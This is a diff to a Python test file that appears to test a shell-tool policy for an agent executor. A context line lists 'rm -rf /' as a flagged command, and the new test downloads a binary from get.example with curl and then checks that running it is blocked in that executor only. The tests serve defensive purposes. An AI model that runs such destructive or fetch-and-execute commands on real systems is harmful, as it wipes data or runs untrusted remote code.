@@ -114,3 +114,12 @@ def test_a_policys_observers_run_without_being_waited_for(tmp_path: Path) -> Non
         ("rm -rf /", True),
         ("ls", False),
     ]
+
+
+def test_what_a_stack_has_fetched_is_asked_about_in_that_stack_alone(tmp_path: Path) -> None:
+    one, other = executor(tmp_path), executor(tmp_path)
+    assert one.use_tool(ToolCall("shell", {"command": "curl -o tool https://get.example/tool"})).ok
+    asked = one.use_tool(ToolCall("shell", {"command": "./tool"}))
+    assert not asked.ok
+    assert "get.example" in asked.error
+    assert other.use_tool(ToolCall("shell", {"command": "./tool"})).ok
